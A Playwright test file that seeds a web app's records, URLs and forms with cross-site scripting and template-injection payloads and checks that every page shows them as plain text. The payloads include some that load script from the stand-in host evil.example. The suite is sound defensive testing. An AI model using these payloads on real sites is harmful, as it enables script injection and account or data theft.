"""Texts of strangers that want to be code, before a real browser: every page that shows them shows them as texts.

No dialog opens, nothing is refused by the policy (so nothing was even tried), nobody else is asked, no link leads to code.
"""

import io
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, Request, expect
from sqlalchemy import select

from campaigns import links, pictures
from campaigns.models import Link
from outreach import wiring, work
from outreach.core.testing import FixedClock
from outreach.people import audit, tokens
from outreach.people.models import ROLES
from outreach.tracker.models import Household
from outreach.web import uploads
from outreach.web.app import make
from outreach.works.bring_sources import BringSources
from scrapers.models import Article, Mention
from tests.browser.serving import as_role, served
from tests.outreach.web import families_desk, newsdesk, planning
from tests.outreach.web.conftest import Office
from tests.support import parcels
from tests.support.offices import told_in
from tests.support.people import account
from tests.support.ports import free_port
from tests.support.routes import routes, samples

PLACE = "Balvu novads"
NOW = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
EVIL = "evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</title><script src=//evil.example/x></script>",
    "</textarea><details open ontoggle=alert(1)>",
    "\" autofocus onfocus=\"alert(1)",
    "\" hx-get=\"//evil.example/x\" hx-trigger=\"load",
    "' hx-on::load='alert(1)' x='",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import '//evil.example/x';</style>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<base href=//evil.example/><img src=//evil.example/x>",
    "]]><svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x>",
    "{{7*7}}${7*7}<%= 7*7 %>{% for x in y %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;\u2028<b>",
)  # fmt: skip
CODE_LINKS = "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", " \tjavascript:alert(1)", "vbscript:x"


@dataclass
class Watched:
    """A browser's window and what it did that it should not have."""

    page: Page
    base: str
    wrong: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", lambda shown: (self.wrong.append(f"dialog {shown.message}"), shown.dismiss()))
        self.page.on("console", lambda said: self._said(said.text))
        self.page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))
        self.page.on("request", self._asked)

    def _said(self, text: str) -> None:
        if "Content Security Policy" in text or "Content-Security-Policy" in text:
            self.wrong.append(text)

    def _asked(self, request: Request) -> None:
        if not request.url.startswith((f"{self.base}/", "data:")):
            self.wrong.append(f"asked {request.url}")

    def look(self, address: str) -> None:
        """Opens a page, waits until nothing moves, and follows what it has fetched into itself."""
        self.page.goto(address, wait_until="load")
        expect(self.page.locator(".htmx-request")).to_have_count(0)
        if address.startswith("/calendar"):
            self.page.wait_for_load_state("networkidle")
        odd = self.page.evaluate(
            """() => [...document.querySelectorAll('[href], [src], [action], [formaction]')]
                .flatMap(one => ['href', 'src', 'action', 'formaction'].map(name => one.getAttribute(name)))
                .filter(told => told && !/^(https?:\\/\\/|\\/|\\?|#|data:image\\/|mailto:)/.test(told.trim()))"""
        )
        forged = self.page.evaluate(
            """() => [...document.querySelectorAll('*')].flatMap(one => [...one.attributes])
                .filter(one => /^on|^hx-on/.test(one.name)).map(one => one.name + '=' + one.value)"""
        )
        foreign = self.page.locator("main script, main iframe, main base, main meta, main style, main link, main math").count()
        self.wrong += [f"{address}: {told}" for told in (*odd, *forged)] + [f"{address}: an element of somebody's"] * bool(foreign)


@dataclass(frozen=True)
class Site:
    """An office in which everything is called something hostile, listening; `many` are the things that are there often."""

    office: Office
    base: str
    browser: Browser

    @contextmanager
    def as_role(self, role: str) -> Iterator[Watched]:
        place = PLACE if role == "partner" else None
        context = as_role(self.browser, self.office.app, self.base, role, place, locale="lv-LV", reduced_motion="reduce")
        watched = Watched(context.new_page(), self.base)
        yield watched
        context.close()
        assert sorted(set(watched.wrong)) == []

    def addresses(self, role: str) -> list[str]:
        """Every page of a role, with one thing of each kind."""
        with self.office.app.store.reading() as session:
            filled = samples(session)
        found = [route for route in routes(self.office.client.application, filled) if route.method == "GET" and role in route.roles()]
        # Files to keep are no pages; what leads on elsewhere is the link's own affair.
        apart = ("static", "evidence.", "public.follow", "public.alive", "public.ready", "work.file", "api.", "media.", "reports.table", "worked.table", "heard.table", "statements.file", "regions.share", "letters.file", "bringing.refused", "family_papers.file", "offers.file", "audit.table", "sources.table", "doors.oidc_back",
                 "briefs.", "feeds.calendar", "press_feeds.", "press_public.file", "press_public.picture", "press_public.held", "plan_table.empty", "plan_table.export", "post_looks.crop", "press_contacts.table", "press_overview.table", "press_contacts.kept", "press_sendings.table")
        return sorted({route.address for route in found if not route.endpoint.startswith(apart)})


def furnish(office: Office, folder: Path) -> None:
    """One of everything for each text; addresses that lead to code where an address belongs."""
    app, now = office.app, office.clock.now()
    parcels.put(app, PAYLOADS[0])
    for number, evil in enumerate(PAYLOADS):
        source = newsdesk.source(office, f"{evil} {number}", "erring" if number % 2 else "healthy", note=evil, site="javascript:alert(1)")
        held = newsdesk.mention(office, source, evil, place=PLACE, sense="ambiguous" if number % 3 == 0 else "return")
        with app.store.transaction() as session:
            mention = session.get_one(Mention, held)
            mention.sentence, mention.matched, mention.places = f"{evil} remigrācija", [{"term": evil, "form": evil}], [evil, PLACE]
            article = session.get_one(Article, mention.article_id)
            article.summary, article.author, article.agency = evil * 3, evil[:200], evil[:40]
            article.url = CODE_LINKS[number % len(CODE_LINKS)]
        campaign = planning.campaign(office, evil, PLACE, goal=evil, note=f"{evil}<p onclick=alert(1)>x</p><a href='{CODE_LINKS[number % 4]}'>y</a>")
        post = planning.post(office, campaign, evil)
        channel = planning.channel(office, folder, f"{evil} {number}")
        status = ("published", "unconfirmed", "failed", "scheduled")[number % 4]
        delivery = planning.delivery(office, post, channel, now, status)
        with app.store.transaction() as session:
            code = session.scalars(select(Link.code).where(Link.delivery_id == delivery)).first()
            if code is not None:
                links.follow(session, now, code)
        families_desk.ask(office, number, name=evil, contact=evil, text=evil, code=code, said_source=evil[:200], municipality=PLACE)
        household = families_desk.family(office, ("contacted", date(2026, 9, 1)))
        reader = account(app, "reader", mail=f"lasitajs{number}@example.org", name=evil)
        with app.store.transaction() as session:
            session.get_one(Household, household).municipality = evil[:80]
            audit.write(session, now, f"{evil}@example.org", evil[:30], evil[:20], number, stage=evil, name=evil)
            work.ask(session, now, reader, evil, "lv", BringSources("upload-0", evil))
    with app.store.transaction() as session:
        owner = account_in(office)
        for evil in PAYLOADS[:10]:
            tokens.make(session, now, owner, "x", evil, ("mentions",), 30)
        image = io.BytesIO()
        Image.new("RGB", (40, 30), "navy").save(image, "PNG")
        pictures.attach(session, now, 1, pictures.draw(image.getvalue()), alt=PAYLOADS[1], actor="x", folder=uploads.media(app.settings))


def account_in(office: Office) -> int:
    return account(office.app, "comms")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, chromium: Browser) -> Iterator[Site]:
    folder, port = tmp_path_factory.mktemp("hostile"), free_port()
    told = told_in(folder, web={"port": port, "public_url": f"http://127.0.0.1:{port}"})
    account_name = PAYLOADS[1]
    with wiring.open_app(told, create=True, clock=FixedClock(NOW)) as app:
        for role in ROLES:
            account(app, role, PLACE if role == "partner" else None, name=account_name)
        pages = make(app)
        office = Office(app, FixedClock(NOW), pages.test_client())
        furnish(office, folder)
        with served(pages, port) as base:
            yield Site(office, base, chromium)


@pytest.mark.parametrize("role", ROLES)
def test_every_page_shows_texts_as_texts(site: Site, role: str) -> None:
    with site.as_role(role) as watched:
        for address in site.addresses(role):
            watched.look(address)


# What is called something hostile, one by one, by a role that sees it.
THINGS = {
    "comms": ("/mentions/{}", "/campaigns/{}", "/campaigns/{}/edit", "/posts/{}", "/posts/{}/edit", "/deliveries/{}", "/settings/sources/{}"),
    "coordinator": ("/inquiries/{}", "/families/{}"),
    "administrator": ("/work/{}", "/settings/users/{}"),
}


@pytest.mark.parametrize(("role", "address"), [(role, address) for role, addresses in THINGS.items() for address in addresses])
def test_each_text_on_its_own_page(site: Site, role: str, address: str) -> None:
    with site.as_role(role) as watched:
        for number in range(1, len(PAYLOADS) + 1):
            watched.look(address.format(number))


def test_what_stands_in_an_address_is_text(site: Site) -> None:
    with site.as_role("administrator") as watched:
        for evil in PAYLOADS:
            told = quote(evil, safe="")
            for address in (
                f"/search?q={told}", f"/mentions?q={told}&place={told}", f"/settings/sources?q={told}", f"/settings/audit?actor={told}",
                f"/reports/outreach?period={told}&language={told}", f"/inquiries?period={told}", f"/nowhere/{told}", f"/calendar?view={told}&day={told}",
            ):  # fmt: skip
                watched.look(address)
    with site.as_role("") as watched:
        for evil in PAYLOADS:
            told = quote(evil, safe="")
            for address in (f"/jautajums?k={told}&lang={told}", f"/sign-in?next={told}", f"/k/{told}", f"/reset/{told}"):
                watched.look(address)


def test_what_is_typed_comes_back_as_text_in_forms_and_toasts(site: Site) -> None:
    """A form that does not fit shows what was typed; one that fits is told of by its name."""
    with site.as_role("comms") as watched:
        page = watched.page
        for evil in PAYLOADS:
            page.goto("/campaigns/new")
            page.locator("#field-name").fill(evil)
            page.locator("#field-goal").fill(evil)
            page.locator("#field-starts_on").fill("2026-12-02")
            page.locator("#field-ends_on").fill("2026-12-01")
            page.locator("main form button:not([type=button])").last.click()
            page.locator("[aria-invalid=true]").first.wait_for()
            assert page.locator("#field-name").input_value() == evil
            page.locator("#field-ends_on").fill("2026-12-03")
            page.locator("main form button:not([type=button])").last.click()
            page.locator("#toasts .toast").first.wait_for()
            assert "alert" not in evil or "alert" in page.locator("#toasts").inner_text()
    with site.as_role("coordinator") as watched:
        page = watched.page
        page.goto("/inquiries/new")
        for evil in PAYLOADS:
            page.locator("#field-line").fill(f"{evil}, Īrija")
            with page.expect_response(lambda answer: urlsplit(answer.url).path == "/inquiries/new"):
                page.locator("#field-line").press("End")
                page.locator("#field-line").press_sequentially(" ")


def test_the_watch_sees_what_it_looks_for(site: Site) -> None:
    """A page that did run such a text would fail the tests above."""
    watched = Watched(site.browser.new_context(base_url=site.base).new_page(), site.base)
    watched.page.route("**/fake", lambda route: route.fulfill(body="<main><img src=//evil.example/x onerror=alert(1)><iframe></iframe></main>", content_type="text/html"))
    watched.look("/fake")
    watched.page.context.close()
    assert any(EVIL in told for told in watched.wrong) and any("dialog" in told for told in watched.wrong)
    assert any("onerror" in told for told in watched.wrong)
